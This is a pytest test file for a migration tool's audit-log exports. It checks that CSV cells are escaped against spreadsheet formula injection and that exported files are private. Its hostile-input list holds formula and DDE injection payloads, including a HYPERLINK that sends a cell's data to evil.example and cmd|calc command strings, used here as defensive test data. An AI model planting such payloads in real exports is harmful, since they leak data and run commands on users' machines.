"""The audit log's exports: CSV escaped against formula injection, JSONL as written, files private."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dentrix_highlevel.errors import ConfigurationError
from dentrix_highlevel.migration import (
    AuditRow,
    RecordAction,
    RecordOutcome,
    RunMode,
    SqliteLedger,
    escape_spreadsheet_cell,
    export_audit,
    write_audit_csv,
    write_audit_jsonl,
)
from dentrix_highlevel.migration._state.audit import AUDIT_COLUMNS

AT = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

_HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


def _row(**changes: object) -> AuditRow:
    values: dict[str, object] = {
        "run_id": "run-1",
        "kind": "contact",
        "source_key": "patient:1",
        "destination_id": "C1",
        "action": RecordAction.CREATED,
        "outcome": RecordOutcome.APPLIED,
        "reason": None,
        "at": AT,
    }
    values.update(changes)
    return AuditRow(**values)  # type: ignore[arg-type]


@pytest.mark.parametrize("hostile", _HOSTILE)
def test_formula_cells_get_a_leading_quote(hostile: str) -> None:
    assert escape_spreadsheet_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("safe", ["patient:1", "C1", "", "1-2", "a=b", "excluded by plan", "'already"])
def test_ordinary_cells_are_left_alone(safe: str) -> None:
    assert escape_spreadsheet_cell(safe) == safe


@given(st.text())
def test_no_escaped_cell_starts_a_formula(value: str) -> None:
    escaped = escape_spreadsheet_cell(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert escaped.removeprefix("'") == value or escaped == value


@pytest.mark.parametrize("hostile", _HOSTILE)
def test_csv_export_escapes_every_column(hostile: str) -> None:
    rows = [
        _row(source_key=hostile, destination_id=hostile, reason=hostile, kind="contact"),
        _row(source_key="patient:2", reason=f"HighLevel said: {hostile}"),
    ]
    out = io.StringIO(newline="")
    assert write_audit_csv(rows, out) == 2
    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert parsed[0] == list(AUDIT_COLUMNS)
    first = dict(zip(AUDIT_COLUMNS, parsed[1], strict=True))
    assert first["source_key"] == "'" + hostile
    assert first["destination_id"] == "'" + hostile
    assert first["reason"] == "'" + hostile
    assert first["action"] == "created"
    assert first["at"] == AT.isoformat()
    # Mid-cell text is not a formula: left as it is.
    assert dict(zip(AUDIT_COLUMNS, parsed[2], strict=True))["reason"] == f"HighLevel said: {hostile}"
    for line in parsed[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    out = io.StringIO(newline="")
    write_audit_csv([_row(reason='422: "phone" invalid,\nsee traceId 9f')], out)
    (_, row) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[AUDIT_COLUMNS.index("reason")] == '422: "phone" invalid,\nsee traceId 9f'


def test_jsonl_writes_values_unescaped_one_object_a_line() -> None:
    rows = [_row(reason=_HOSTILE[0]), _row(source_key="patient:2", destination_id=None, reason=None)]
    out = io.StringIO()
    assert write_audit_jsonl(rows, out) == 2
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    first, second = (json.loads(line) for line in lines)
    assert first["reason"] == _HOSTILE[0]
    assert set(first) == set(AUDIT_COLUMNS)
    assert second["destination_id"] is None
    assert second["at"] == "2026-03-01T12:00:00+00:00"


@pytest.mark.parametrize(
    ("name", "first_line"), [("audit.csv", ",".join(AUDIT_COLUMNS)), ("audit.jsonl", "{")]
)
def test_export_audit_picks_the_format_and_writes_a_private_file(
    tmp_path: Path, name: str, first_line: str
) -> None:
    target = tmp_path / name
    assert export_audit([_row(), _row(source_key="patient:2")], target) == 2
    text = target.read_text(encoding="utf-8")
    assert text.startswith(first_line)
    if os.name == "posix":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_export_audit_needs_a_known_format(tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="audit format"):
        export_audit([_row()], tmp_path / "audit.xlsx")
    assert list(tmp_path.iterdir()) == []
    assert export_audit([_row()], tmp_path / "audit.txt", file_format="jsonl") == 1


def test_the_ledger_audit_exports_end_to_end(ledger: SqliteLedger, tmp_path: Path) -> None:
    run = ledger.begin_run(RunMode.RUN, run_id="run-1")
    ledger.record_result(
        run.run_id,
        "contact",
        "patient:1",
        action=RecordAction.CREATED,
        outcome=RecordOutcome.APPLIED,
        destination_id="C1",
    )
    ledger.record_result(
        run.run_id,
        "contact",
        "=2+5",
        action=RecordAction.FAILED,
        outcome=RecordOutcome.NOT_APPLIED,
        reason="@import failed",
    )
    export_audit(ledger.audit_rows(run_id="run-1"), tmp_path / "audit.csv")
    rows = list(csv.DictReader((tmp_path / "audit.csv").open(newline="", encoding="utf-8")))
    assert [(r["source_key"], r["action"], r["reason"]) for r in rows] == [
        ("patient:1", "created", ""),
        ("'=2+5", "failed", "'@import failed"),
    ]
